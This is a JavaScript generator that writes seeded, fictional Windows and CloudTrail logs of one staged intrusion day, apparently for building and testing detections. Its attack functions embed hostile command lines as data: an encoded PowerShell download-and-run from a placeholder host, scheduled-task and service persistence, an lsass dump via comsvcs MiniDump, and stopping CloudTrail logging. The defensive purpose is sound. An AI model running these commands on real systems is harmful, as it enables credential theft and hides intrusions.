// Long because it is one story, told in the order of its day from one stream of seeded numbers that its parts draw in turn.
/**
 * Writes examples/logs: one day in a small network that does not exist. Everything is made up: names end in .test,
 * addresses are from the ranges that RFC 5737 keeps for documentation, the hashes are random numbers.
 *
 *   node examples/generate-logs.mjs
 *
 * The numbers come from a fixed seed, so the same files come out every time; a test holds the files to it.
 *
 * The story (UTC, 17 November 2026): at 08:58 mia opens a document on ws-03, which starts PowerShell with an encoded
 * command. It fetches a program, keeps it alive with a scheduled task and a service, and reads the memory of lsass.
 * With an administrator's password it goes on to the file server fs-01 and does the same there. A certificate is
 * exported on the way, and at 11:12 the administrator's cloud account signs in without a second factor and stops
 * the audit trail. Around that, everybody works.
 */
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'

const DAY = Date.UTC(2026, 10, 17)
const DOMAIN = 'EXAMPLE'
const SID = 'S-1-5-21-1111111111-2222222222-3333333333'
const SYSTEM_SID = 'S-1-5-18'

const PEOPLE = {
  ben: { host: 'ws-01', rid: 1101 },
  noor: { host: 'ws-02', rid: 1102 },
  mia: { host: 'ws-03', rid: 1103 },
  tom: { host: 'ws-04', rid: 1104 },
  ida: { host: 'ws-05', rid: 1105 },
  leo: { host: 'ws-06', rid: 1106 },
  'lena-adm': { host: 'adm-01', rid: 1150 },
  'svc-backup': { host: 'ca-01', rid: 1160 },
}
const ADDRESSES = {
  ...{ 'ws-01': '192.0.2.11', 'ws-02': '192.0.2.12', 'ws-03': '192.0.2.13', 'ws-04': '192.0.2.14' },
  ...{ 'ws-05': '192.0.2.15', 'ws-06': '192.0.2.16', 'adm-01': '192.0.2.130', 'fs-01': '192.0.2.201' },
  ...{ 'ca-01': '192.0.2.202', 'dc-01': '192.0.2.203' },
}
const WORKSTATIONS = ['ws-01', 'ws-02', 'ws-03', 'ws-04', 'ws-05', 'ws-06']
const OWNER = Object.fromEntries(Object.entries(PEOPLE).map(([name, { host }]) => [host, name]))

const SYSTEM32 = 'C:\\Windows\\System32'
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`
const AGENT = 'C:\\Program Files\\Example Agent\\example-agent.exe'
const IMPLANT = 'C:\\Users\\Public\\diskcheck.exe'
const SOURCE_ADDRESS = '198.51.100.23'
const CLOUD_INTRUDER = '203.0.113.66'

/** Mulberry32: small, and the same on every machine. */
function randomFrom(seed) {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296
  }
}

let random = randomFrom(1)
const below = (limit) => Math.floor(random() * limit)
const pick = (list) => list[below(list.length)]
const hex = (digits) => Array.from({ length: digits }, () => below(16).toString(16)).join('')
const guid = () => `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`.toUpperCase()

/** `at('08:58:03')`, in milliseconds. */
function at(clock) {
  const [hours, minutes, seconds = 0] = clock.split(':').map(Number)
  return DAY + ((hours * 60 + minutes) * 60 + seconds) * 1000 + below(1000)
}

/** A moment of the working day, from 07:00 to 12:59. */
const someTime = () => DAY + 7 * 3_600_000 + below(6 * 3_600_000)

const sidOf = (user) => (user === 'SYSTEM' ? SYSTEM_SID : `${SID}-${PEOPLE[user].rid}`)
const accountOf = (user) => (user === 'SYSTEM' ? 'NT AUTHORITY\\SYSTEM' : `${DOMAIN}\\${user}`)
const leaf = (path) => path.slice(path.lastIndexOf('\\') + 1)
const escapeXml = (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')
const fractional = (ms, digits) =>
  `${new Date(ms).toISOString().slice(0, -1)}${String(below(10 ** digits)).padStart(digits, '0')}`

// ---------------------------------------------------------------- Windows events

const windows = []

/** An event as XML, with the shape and the order of elements that Windows gives it. */
function windowsEvent(log, time, host, { provider, id, body, user, ...rest }) {
  windows.push({ log, time, host, provider, id, body, user, ...rest })
}

function renderWindowsEvent(event, record) {
  const { provider, id, time, host, body, user, channel } = event
  const { version = 0, level = 4, task = 0, opcode = 0, keywords = '0x8000000000000000', qualifiers, process } = event
  const attributes = qualifiers === undefined ? '' : ` Qualifiers='${qualifiers}'`
  const security = user === undefined ? '<Security/>' : `<Security UserID='${sidOf(user)}'/>`
  return [
    `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>${provider}`,
    `<EventID${attributes}>${id}</EventID><Version>${version}</Version><Level>${level}</Level><Task>${task}</Task>`,
    `<Opcode>${opcode}</Opcode><Keywords>${keywords}</Keywords>`,
    `<TimeCreated SystemTime='${fractional(time, 4)}Z'/><EventRecordID>${record}</EventRecordID><Correlation/>`,
    `<Execution ProcessID='${process}' ThreadID='${600 + below(9000)}'/><Channel>${channel}</Channel>`,
    `<Computer>${host}.example.test</Computer>${security}</System>${body}</Event>`,
  ].join('')
}

function eventData(data) {
  const items = Object.entries(data).map(([name, value]) => `<Data Name='${name}'>${escapeXml(String(value))}</Data>`)
  return `<EventData>${items.join('')}</EventData>`
}

const PROVIDERS = {
  sysmon: "<Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/>",
  security: "<Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-a5ba-3e3b0328c30d}'/>",
  services:
    "<Provider Name='Service Control Manager' Guid='{555908d1-a6d7-4695-8e1e-26931d2012f4}' EventSourceName='Service Control Manager'/>",
  powershell: "<Provider Name='Microsoft-Windows-PowerShell' Guid='{a0c1853b-5c40-4b15-8766-3cf1c58f985a}'/>",
  certificates:
    "<Provider Name='Microsoft-Windows-CertificateServicesClient-Lifecycle-User' Guid='{bc0669e1-a10d-4a78-834e-1ca3c806c93b}'/>",
}

function sysmon(time, host, id, version, data) {
  const utc = new Date(time).toISOString().replace('T', ' ').slice(0, -1)
  windowsEvent('sysmon.log', time, host, {
    provider: PROVIDERS.sysmon,
    id,
    version,
    task: id,
    user: 'SYSTEM',
    process: 3120,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    body: eventData({ RuleName: '-', UtcTime: utc, ...data }),
  })
}

/** Sysmon 1: a process starts. */
function processStart(time, host, user, image, commandLine, parent, parentLine, more = {}) {
  const system = user === 'SYSTEM'
  sysmon(time, host, 1, 5, {
    ProcessGuid: guid(),
    ProcessId: 1000 + below(9000),
    Image: image,
    FileVersion: more.version ?? '10.0.22621.1',
    Description: more.description ?? leaf(image),
    Product: more.product ?? 'Microsoft® Windows® Operating System',
    Company: more.company ?? (more.product === 'Google Chrome' ? 'Google LLC' : 'Microsoft Corporation'),
    OriginalFileName: more.original ?? leaf(image),
    CommandLine: commandLine,
    CurrentDirectory: system ? `${SYSTEM32}\\` : `C:\\Users\\${user}\\`,
    User: accountOf(user),
    LogonGuid: guid(),
    LogonId: system ? '0x3e7' : `0x${hex(6)}`,
    TerminalSessionId: system ? 0 : 1,
    IntegrityLevel: more.integrity ?? (system ? 'System' : 'Medium'),
    Hashes: `SHA256=${hex(64).toUpperCase()},IMPHASH=${hex(32).toUpperCase()}`,
    ParentProcessGuid: guid(),
    ParentProcessId: 1000 + below(9000),
    ParentImage: parent,
    ParentCommandLine: parentLine,
    ParentUser: accountOf(user),
  })
}

/** Sysmon 10: a process opens another one. */
function processAccess(time, host, user, source, target, rights, trace) {
  sysmon(time, host, 10, 3, {
    SourceProcessGUID: guid(),
    SourceProcessId: 1000 + below(9000),
    SourceThreadId: 1000 + below(9000),
    SourceImage: source,
    TargetProcessGUID: guid(),
    TargetProcessId: 688,
    TargetImage: target,
    GrantedAccess: rights,
    CallTrace: trace,
    SourceUser: accountOf(user),
    TargetUser: 'NT AUTHORITY\\SYSTEM',
  })
}

/** Sysmon 3: a connection. */
function connection(time, host, user, image, address, name, port) {
  sysmon(time, host, 3, 5, {
    ProcessGuid: guid(),
    ProcessId: 1000 + below(9000),
    Image: image,
    User: accountOf(user),
    Protocol: 'tcp',
    Initiated: 'true',
    SourceIsIpv6: 'false',
    SourceIp: ADDRESSES[host],
    SourceHostname: `${host}.example.test`,
    SourcePort: 49_700 + below(9000),
    SourcePortName: '-',
    DestinationIsIpv6: 'false',
    DestinationIp: address,
    DestinationHostname: name,
    DestinationPort: port,
    DestinationPortName: port === 443 ? 'https' : 'http',
  })
}

/** Sysmon 22: a name is looked up. */
function nameLookup(time, host, user, image, name, answer) {
  sysmon(time, host, 22, 5, {
    ProcessGuid: guid(),
    ProcessId: 1000 + below(9000),
    QueryName: name,
    QueryStatus: 0,
    QueryResults: `::ffff:${answer};`,
    Image: image,
    User: accountOf(user),
  })
}

function security(time, host, id, { version = 0, task }, data) {
  windowsEvent('security.log', time, host, {
    provider: PROVIDERS.security,
    id,
    version,
    level: 0,
    task,
    keywords: '0x8020000000000000',
    process: 688,
    channel: 'Security',
    body: eventData(data),
  })
}

/** Security 4624: somebody logs on. */
function logon(time, host, user, type, from) {
  const service = type === 5
  security(
    time,
    host,
    4624,
    { version: 2, task: 12544 },
    {
      SubjectUserSid: type === 3 ? 'S-1-0-0' : SYSTEM_SID,
      SubjectUserName: type === 3 ? '-' : `${host.toUpperCase()}$`,
      SubjectDomainName: type === 3 ? '-' : DOMAIN,
      SubjectLogonId: type === 3 ? '0x0' : '0x3e7',
      TargetUserSid: sidOf(user),
      TargetUserName: user,
      TargetDomainName: user === 'SYSTEM' ? 'NT AUTHORITY' : DOMAIN,
      TargetLogonId: `0x${hex(6)}`,
      LogonType: type,
      LogonProcessName: type === 3 ? 'NtLmSsp ' : service ? 'Advapi  ' : 'User32 ',
      AuthenticationPackageName: type === 3 ? 'NTLM' : 'Negotiate',
      WorkstationName: (type === 3 ? from : host).toUpperCase(),
      LogonGuid: '{00000000-0000-0000-0000-000000000000}',
      TransmittedServices: '-',
      LmPackageName: type === 3 ? 'NTLM V2' : '-',
      KeyLength: type === 3 ? 128 : 0,
      ProcessId: type === 3 ? '0x0' : '0x2b0',
      ProcessName: type === 3 ? '-' : `${SYSTEM32}\\${service ? 'services.exe' : 'svchost.exe'}`,
      IpAddress: type === 3 ? ADDRESSES[from] : service ? '-' : '127.0.0.1',
      IpPort: type === 3 ? 49_700 + below(9000) : service ? '-' : 0,
      ImpersonationLevel: '%%1833',
    },
  )
}

/** Security 4698: a scheduled task is created. Its definition is XML over several lines. */
function taskCreated(time, host, user, name, command, args) {
  const content = [
    '<?xml version="1.0" encoding="UTF-16"?>',
    '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">',
    '  <RegistrationInfo>',
    `    <Date>${new Date(time).toISOString().slice(0, 19)}</Date>`,
    `    <Author>${accountOf(user)}</Author>`,
    `    <URI>${name}</URI>`,
    '  </RegistrationInfo>',
    '  <Triggers>',
    '    <TimeTrigger>',
    '      <Repetition>',
    '        <Interval>PT30M</Interval>',
    '      </Repetition>',
    `      <StartBoundary>${new Date(time).toISOString().slice(0, 16)}:00</StartBoundary>`,
    '      <Enabled>true</Enabled>',
    '    </TimeTrigger>',
    '  </Triggers>',
    '  <Actions Context="Author">',
    '    <Exec>',
    `      <Command>${escapeXml(command)}</Command>`,
    ...(args === '' ? [] : [`      <Arguments>${escapeXml(args)}</Arguments>`]),
    '    </Exec>',
    '  </Actions>',
    '  <Principals>',
    '    <Principal id="Author">',
    `      <UserId>${accountOf(user)}</UserId>`,
    '      <RunLevel>LeastPrivilege</RunLevel>',
    '    </Principal>',
    '  </Principals>',
    '</Task>',
  ].join('\n')
  security(
    time,
    host,
    4698,
    { version: 1, task: 12804 },
    {
      SubjectUserSid: sidOf(user),
      SubjectUserName: user === 'SYSTEM' ? `${host.toUpperCase()}$` : user,
      SubjectDomainName: DOMAIN,
      SubjectLogonId: `0x${hex(6)}`,
      TaskName: name,
      TaskContent: content,
      ClientProcessStartKey: 5_000_000_000 + below(1_000_000),
      ClientProcessId: 1000 + below(9000),
      ParentProcessId: 1000 + below(9000),
      RpcCallClientLocality: 0,
      FQDN: `${host}.example.test`,
    },
  )
}

function system(time, host, id, user, body) {
  windowsEvent('system.log', time, host, {
    provider: PROVIDERS.services,
    id,
    qualifiers: 16384,
    keywords: '0x8080000000000000',
    process: 640,
    channel: 'System',
    user,
    body,
  })
}

/** System 7036: a service starts or stops. */
function serviceState(time, host, service, state) {
  system(time, host, 7036, undefined, eventData({ param1: service, param2: state }))
}

/** System 7045: a service is installed. */
function serviceInstalled(time, host, user, name, path, start) {
  const data = { ServiceName: name, ImagePath: path, ServiceType: 'user mode service', StartType: start }
  system(time, host, 7045, user, eventData({ ...data, AccountName: 'LocalSystem' }))
}

/** PowerShell 4104: the text of a script block. */
function scriptBlock(time, host, user, text, path = '') {
  windowsEvent('powershell.log', time, host, {
    provider: PROVIDERS.powershell,
    id: 4104,
    version: 1,
    level: 5,
    task: 2,
    opcode: 15,
    keywords: '0x0',
    process: 1000 + below(9000),
    channel: 'Microsoft-Windows-PowerShell/Operational',
    user,
    body: eventData({
      MessageNumber: 1,
      MessageTotal: 1,
      ScriptBlockText: text,
      ScriptBlockId: guid().slice(1, -1).toLowerCase(),
      Path: path,
    }),
  })
}

/** CertificateServicesClient-Lifecycle 1006 (a certificate is installed) and 1007 (one is exported). */
function certificate(time, host, user, id, process, subject) {
  const thumbprint = hex(40)
  const names = [`CN=${subject}`, subject].map((name) => `<SubjectName>${name}</SubjectName>`).join('')
  const body = [
    `<UserData><CertNotificationData ProcessName='${process}' AccountName='${accountOf(user)}' Context='User'>`,
    `<CertificateDetails Thumbprint='${thumbprint}'><SubjectNames>${names}</SubjectNames>`,
    "<EKUs><EKU Name='Client Authentication' OID='1.3.6.1.5.5.7.3.2'/></EKUs>",
    '<NotValidAfter>2027-11-17T07:00:00Z</NotValidAfter></CertificateDetails></CertNotificationData></UserData>',
  ].join('')
  windowsEvent('certificates.log', time, host, {
    provider: PROVIDERS.certificates,
    id,
    process: 1000 + below(9000),
    channel: 'Microsoft-Windows-CertificateServicesClient-Lifecycle-User/Operational',
    user,
    body,
  })
}

// ---------------------------------------------------------------- CloudTrail

const ACCOUNT = '111122223333'
const trail = []

/** A management event of CloudTrail, version 1.08. */
function cloud(time, user, eventSource, eventName, address, more = {}) {
  const identity = {
    type: 'IAMUser',
    principalId: `AIDAEXAMPLE${user.toUpperCase().replace(/[^A-Z]/g, '')}`,
    arn: `arn:aws:iam::${ACCOUNT}:user/${user}`,
    accountId: ACCOUNT,
    ...(eventName === 'ConsoleLogin' ? {} : { accessKeyId: 'AKIAIOSFODNN7EXAMPLE' }),
    userName: user,
  }
  trail.push({
    time,
    record: {
      eventVersion: '1.08',
      userIdentity: identity,
      eventTime: `${new Date(time).toISOString().slice(0, 19)}Z`,
      eventSource: `${eventSource}.amazonaws.com`,
      eventName,
      awsRegion: more.region ?? 'eu-central-1',
      sourceIPAddress: address,
      userAgent: more.agent ?? 'aws-cli/2.17.0 md/awscrt#0.20.11 ua/2.0 os/linux#6.1',
      ...(more.error === undefined ? {} : { errorCode: more.error }),
      ...(more.message === undefined ? {} : { errorMessage: more.message }),
      requestParameters: more.request ?? null,
      responseElements: more.response ?? null,
      ...(more.additional === undefined ? {} : { additionalEventData: more.additional }),
      requestID: guid().slice(1, -1).toLowerCase(),
      eventID: guid().slice(1, -1).toLowerCase(),
      readOnly: /^(Describe|List|Get)/.test(eventName),
      eventType: eventName === 'ConsoleLogin' ? 'AwsConsoleSignIn' : 'AwsApiCall',
      managementEvent: true,
      recipientAccountId: ACCOUNT,
      eventCategory: 'Management',
    },
  })
}

const BROWSER =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36'

function consoleLogin(time, user, address, mfa, outcome = 'Success') {
  cloud(time, user, 'signin', 'ConsoleLogin', address, {
    region: 'us-east-1',
    agent: BROWSER,
    ...(outcome === 'Success' ? {} : { message: 'Failed authentication' }),
    response: { ConsoleLogin: outcome },
    additional: { LoginTo: 'https://console.aws.amazon.com/console/home', MobileVersion: 'No', MFAUsed: mfa },
  })
}

// ---------------------------------------------------------------- The attack

const encoded = (script) => Buffer.from(script, 'utf16le').toString('base64')
const FETCH = `Invoke-WebRequest -Uri http://${SOURCE_ADDRESS}/diskcheck.bin -OutFile ${IMPLANT}; Start-Process ${IMPLANT}`
const UNKNOWN_CALLER = `${SYSTEM32}\\ntdll.dll+9f8c4|${SYSTEM32}\\KERNELBASE.dll+2f3b6|UNKNOWN(0000021F4C8A1B3D)`

function attackOnWorkstation() {
  const word = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'
  const document = `"${word}" /n "C:\\Users\\mia\\Downloads\\order-4711.docm"`
  processStart(
    at('08:57:41'),
    'ws-03',
    'mia',
    word,
    document,
    'C:\\Windows\\explorer.exe',
    'C:\\Windows\\Explorer.EXE',
    {
      original: 'WinWord.exe',
      product: 'Microsoft Office',
    },
  )
  const line = `powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ${encoded(FETCH)}`
  processStart(at('08:58:03'), 'ws-03', 'mia', POWERSHELL, line, word, document, { original: 'PowerShell.EXE' })
  scriptBlock(at('08:58:05'), 'ws-03', 'mia', FETCH)
  connection(at('08:58:06'), 'ws-03', 'mia', POWERSHELL, SOURCE_ADDRESS, '-', 80)
  const own = { original: '-', product: '-', company: '-', description: '-', version: '-' }
  processStart(at('08:58:11'), 'ws-03', 'mia', IMPLANT, IMPLANT, POWERSHELL, line, own)
  const task = '\\Microsoft\\Windows\\DiskCheck\\Sync'
  const create = `schtasks.exe /create /tn ${task} /sc minute /mo 30 /tr "${IMPLANT} -q"`
  processStart(at('09:01:20'), 'ws-03', 'mia', `${SYSTEM32}\\schtasks.exe`, create, IMPLANT, IMPLANT)
  taskCreated(at('09:01:21'), 'ws-03', 'mia', task, IMPLANT, '-q')
  serviceInstalled(
    at('09:10:02'),
    'ws-03',
    'mia',
    'DiskCheckHelper',
    `%COMSPEC% /c start /b ${IMPLANT} -s`,
    'auto start',
  )
  processStart(
    at('09:10:05'),
    'ws-03',
    'SYSTEM',
    IMPLANT,
    `${IMPLANT} -s`,
    `${SYSTEM32}\\cmd.exe`,
    `cmd.exe /c start /b ${IMPLANT} -s`,
    own,
  )
  processAccess(at('09:14:37'), 'ws-03', 'mia', IMPLANT, `${SYSTEM32}\\lsass.exe`, '0x1410', UNKNOWN_CALLER)
  dump(at('09:20:12'), 'ws-03', 'mia')
  certificate(at('09:31:44'), 'ws-03', 'mia', 1007, 'powershell.exe', 'mia.example.test')
}

/** Memory of lsass into a file, with what Windows brings. */
function dump(time, host, user) {
  const rundll = `${SYSTEM32}\\rundll32.exe`
  const line = `rundll32.exe ${SYSTEM32}\\comsvcs.dll, MiniDump 688 C:\\Windows\\Temp\\dc.bin full`
  const shell = `cmd.exe /c ${line}`
  processStart(time, host, user, rundll, line, `${SYSTEM32}\\cmd.exe`, shell, {
    original: 'RUNDLL32.EXE',
    integrity: 'High',
  })
  const trace = `${SYSTEM32}\\ntdll.dll+9f8c4|${SYSTEM32}\\KERNELBASE.dll+2f3b6|${SYSTEM32}\\comsvcs.dll+21f0`
  processAccess(time + 240, host, user, rundll, `${SYSTEM32}\\lsass.exe`, '0x1fffff', trace)
}

function attackOnFileServer() {
  logon(at('10:05:10'), 'fs-01', 'lena-adm', 3, 'ws-03')
  serviceInstalled(at('10:05:16'), 'fs-01', 'lena-adm', 'dcsvc', 'C:\\Windows\\Temp\\dcsvc.exe', 'demand start')
  const line = `powershell.exe -nop -w hidden -enc ${encoded('Get-SmbShare | Out-File C:\\Windows\\Temp\\s.txt')}`
  processStart(
    at('10:06:40'),
    'fs-01',
    'lena-adm',
    POWERSHELL,
    line,
    'C:\\Windows\\Temp\\dcsvc.exe',
    'C:\\Windows\\Temp\\dcsvc.exe',
    {
      original: 'PowerShell.EXE',
      integrity: 'High',
    },
  )
  dump(at('10:20:55'), 'fs-01', 'lena-adm')
}

function attackInTheCloud() {
  consoleLogin(at('11:09:30'), 'lena', CLOUD_INTRUDER, 'No', 'Failure')
  consoleLogin(at('11:12:04'), 'lena', CLOUD_INTRUDER, 'No')
  const agent = BROWSER
  cloud(at('11:15:22'), 'lena', 'cloudtrail', 'DescribeTrails', CLOUD_INTRUDER, { agent })
  const name = `arn:aws:cloudtrail:eu-central-1:${ACCOUNT}:trail/example-trail`
  cloud(at('11:16:48'), 'lena', 'cloudtrail', 'StopLogging', CLOUD_INTRUDER, { agent, request: { name } })
  cloud(at('11:19:03'), 'lena', 'iam', 'CreateAccessKey', CLOUD_INTRUDER, {
    agent,
    request: { userName: 'build' },
    response: { accessKey: { accessKeyId: 'AKIAI44QH8DHBEXAMPLE', status: 'Active', userName: 'build' } },
  })
}

// ---------------------------------------------------------------- Everybody else

const PROGRAMS = [
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '--type=renderer', 'Google Chrome'],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '', 'Microsoft Office'],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', '/dde', 'Microsoft Office'],
  ['C:\\Windows\\System32\\mspaint.exe', '', undefined],
  ['C:\\Windows\\System32\\notepad.exe', '', undefined],
  ['C:\\Windows\\System32\\mstsc.exe', '/v:fs-01', undefined],
]

function work() {
  for (let i = 0; i < 48; i++) {
    const host = pick(WORKSTATIONS)
    const [image, args, product] = pick(PROGRAMS)
    const line = `"${image}"${args === '' ? '' : ` ${args}`}`
    processStart(someTime(), host, OWNER[host], image, line, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', {
      product,
    })
  }
  for (let i = 0; i < 12; i++) {
    const host = pick([...WORKSTATIONS, 'fs-01', 'dc-01'])
    const svchost = `${SYSTEM32}\\svchost.exe`
    processStart(
      someTime(),
      host,
      'SYSTEM',
      svchost,
      `${svchost} -k netsvcs -p`,
      `${SYSTEM32}\\services.exe`,
      `${SYSTEM32}\\services.exe`,
    )
  }
  // A program that installs itself below the user's folder, as many do.
  const notes = 'C:\\Users\\ben\\AppData\\Local\\Programs\\Notes\\notes.exe'
  for (const clock of ['07:41', '12:05'])
    processStart(
      at(clock),
      'ws-01',
      'ben',
      notes,
      `"${notes}"`,
      'C:\\Windows\\explorer.exe',
      'C:\\Windows\\Explorer.EXE',
      { product: 'Notes' },
    )
  // An administrator starts it again: nothing is encoded in this one.
  processStart(
    at('09:50'),
    'adm-01',
    'lena-adm',
    POWERSHELL,
    'powershell.exe -NoProfile -File C:\\Scripts\\restart-spooler.ps1',
    `${SYSTEM32}\\cmd.exe`,
    'cmd.exe',
    {
      original: 'PowerShell.EXE',
    },
  )
}

const INVENTORY = 'Get-CimInstance Win32_OperatingSystem | Select-Object Version, LastBootUpTime'

/** The management agent encodes its commands too: a filter macro takes it out. */
function managementAgent() {
  for (const host of WORKSTATIONS) {
    const line = `powershell.exe -NoProfile -NonInteractive -EncodedCommand ${encoded(INVENTORY)}`
    const time = at(`07:${10 + below(40)}`)
    processStart(time, host, 'SYSTEM', POWERSHELL, line, AGENT, `"${AGENT}" --service`, { original: 'PowerShell.EXE' })
    scriptBlock(time + 900, host, 'SYSTEM', INVENTORY)
  }
}

/** Virus scanners and Windows itself open lsass: a lookup names them. */
function lsassReaders() {
  const readers = [
    ['C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25100.9-0\\MsMpEng.exe', '0x1410'],
    [`${SYSTEM32}\\wbem\\WmiPrvSE.exe`, '0x1410'],
    [`${SYSTEM32}\\svchost.exe`, '0x1000'],
    [`${SYSTEM32}\\csrss.exe`, '0x1fffff'],
  ]
  const trace = `${SYSTEM32}\\ntdll.dll+9f8c4|${SYSTEM32}\\KERNELBASE.dll+2f3b6|${SYSTEM32}\\kernel32.dll+1c6f0`
  for (let i = 0; i < 20; i++) {
    const [image, rights] = pick(readers)
    processAccess(
      someTime(),
      pick([...WORKSTATIONS, 'fs-01']),
      'SYSTEM',
      image,
      `${SYSTEM32}\\lsass.exe`,
      rights,
      trace,
    )
  }
}

function network() {
  const chrome = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'
  const sites = [
    'intranet.example.test',
    'wiki.example.test',
    'mail.example.test',
    'news.example.org',
    'maps.example.net',
  ]
  for (let i = 0; i < 18; i++) {
    const host = pick(WORKSTATIONS)
    const site = pick(sites)
    const time = someTime()
    const address = `198.51.100.${100 + sites.indexOf(site)}`
    nameLookup(time, host, OWNER[host], chrome, site, address)
    if (i % 2 === 0) connection(time + 40, host, OWNER[host], chrome, address, site, 443)
  }
}

function logons() {
  for (const host of WORKSTATIONS) logon(at(`07:0${below(10)}`), host, OWNER[host], 2, host)
  for (let i = 0; i < 14; i++) {
    const host = pick(WORKSTATIONS)
    logon(someTime(), 'fs-01', OWNER[host], 3, host)
  }
  // Administrators come from the administration network.
  for (const clock of ['08:15', '09:45', '11:50']) logon(at(clock), 'fs-01', 'lena-adm', 3, 'adm-01')
  logon(at('07:30'), 'ca-01', 'svc-backup', 5, 'ca-01')
}

function tasksAndServices() {
  taskCreated(at('07:22'), 'ws-01', 'SYSTEM', '\\ExampleAgent\\Inventory', AGENT, '--inventory')
  taskCreated(at('07:25'), 'ws-05', 'SYSTEM', '\\ExampleAgent\\Inventory', AGENT, '--inventory')
  taskCreated(
    at('10:40'),
    'adm-01',
    'lena-adm',
    '\\Administration\\Restart spooler',
    POWERSHELL,
    '-NoProfile -File C:\\Scripts\\restart-spooler.ps1',
  )
  serviceInstalled(at('07:20'), 'ws-01', 'SYSTEM', 'ExampleAgent', `"${AGENT}" --service`, 'auto start')
  serviceInstalled(at('07:24'), 'ws-05', 'SYSTEM', 'ExampleAgent', `"${AGENT}" --service`, 'auto start')
  serviceInstalled(
    at('08:40'),
    'fs-01',
    'SYSTEM',
    'ExamplePrint',
    `${SYSTEM32}\\spool\\example-print.exe`,
    'demand start',
  )
  const services = [
    'Windows Update',
    'Background Intelligent Transfer Service',
    'Windows Modules Installer',
    'Print Spooler',
  ]
  for (let i = 0; i < 40; i++)
    serviceState(someTime(), pick([...WORKSTATIONS, 'fs-01', 'dc-01']), pick(services), pick(['running', 'stopped']))
}

function scripts() {
  const harmless = [
    'prompt',
    'Get-ChildItem C:\\Scripts',
    'Get-Service Spooler',
    'Restart-Service Spooler',
    'Get-ADUser -Filter * | Measure-Object',
  ]
  for (let i = 0; i < 16; i++)
    scriptBlock(someTime(), 'adm-01', 'lena-adm', pick(harmless), 'C:\\Scripts\\restart-spooler.ps1')
}

function certificates() {
  for (let i = 0; i < 6; i++) {
    const host = pick(WORKSTATIONS)
    certificate(someTime(), host, OWNER[host], 1006, 'taskhostw.exe', `${host}.example.test`)
  }
  // The nightly copy of the certification authority, in the allow list.
  certificate(at('07:31'), 'ca-01', 'svc-backup', 1007, 'ca-backup.exe', 'Example Issuing CA')
}

function cloudWork() {
  const office = '192.0.2.250'
  for (const user of ['ben', 'noor', 'tom', 'lena']) consoleLogin(at(`07:${30 + below(29)}`), user, office, 'Yes')
  consoleLogin(at('08:02'), 'noor', office, 'No', 'Failure')
  const calls = [
    ['ec2', 'DescribeInstances'],
    ['s3', 'ListBuckets'],
    ['cloudwatch', 'DescribeAlarms'],
    ['iam', 'ListUsers'],
    ['ecr', 'DescribeRepositories'],
  ]
  for (let i = 0; i < 48; i++) {
    const [source, name] = pick(calls)
    cloud(someTime(), pick(['build', 'ben', 'noor', 'tom']), source, name, office)
  }
  // Tried, and refused: not a finding.
  cloud(at('10:30'), 'build', 'cloudtrail', 'StopLogging', office, {
    error: 'AccessDenied',
    message: `User: arn:aws:iam::${ACCOUNT}:user/build is not authorized to perform: cloudtrail:StopLogging`,
  })
}

// ---------------------------------------------------------------- Files

/** File name → text, of every example log. */
export function exampleLogs() {
  random = randomFrom(20261117)
  windows.length = 0
  trail.length = 0
  for (const part of [attackOnWorkstation, attackOnFileServer, attackInTheCloud]) part()
  for (const part of [work, managementAgent, lsassReaders, network, logons]) part()
  for (const part of [tasksAndServices, scripts, certificates, cloudWork]) part()
  const byTime = (a, b) => a.time - b.time
  const files = new Map()
  const records = new Map()
  for (const event of windows.sort(byTime)) {
    const key = `${event.log} ${event.host}`
    const record = (records.get(key) ?? 41_000) + 1 + below(3)
    records.set(key, record)
    files.set(event.log, `${files.get(event.log) ?? ''}${renderWindowsEvent(event, record)}\n`)
  }
  files.set(
    'cloudtrail.json',
    trail
      .sort(byTime)
      .map(({ record }) => `${JSON.stringify(record)}\n`)
      .join(''),
  )
  return files
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  for (const [name, text] of exampleLogs())
    writeFileSync(join(fileURLToPath(new URL('logs/', import.meta.url)), name), text)
}
